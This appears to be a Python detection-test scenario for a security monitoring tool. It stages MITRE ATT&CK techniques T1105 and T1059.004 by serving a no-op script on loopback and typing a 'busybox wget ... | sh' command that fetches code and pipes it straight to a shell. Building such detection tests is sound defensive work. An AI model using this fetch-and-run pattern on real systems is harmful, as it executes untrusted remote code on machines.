"""Fetches a script and runs it without ever storing it.

The script comes from a server of our own on loopback and does nothing.
ATT&CK T1105, T1059.004. Cleanup: the throwaway root is removed.
"""

from __future__ import annotations

from vedette_dev.stage import Stage

TECHNIQUE = "T1059.004"
EXPECTS = ("attack.t1059", "attack.t1105")
NEEDS_ROOT = "programs that end at once are seen by the sources that root has"


def act(stage: Stage) -> str:
    address, port = stage.serve(f": {stage.word()}\n".encode())
    url = f"http://{address}:{port}/{stage.word()}"
    return stage.type(f"sh -c 'busybox wget -q -O - {url} | sh'")
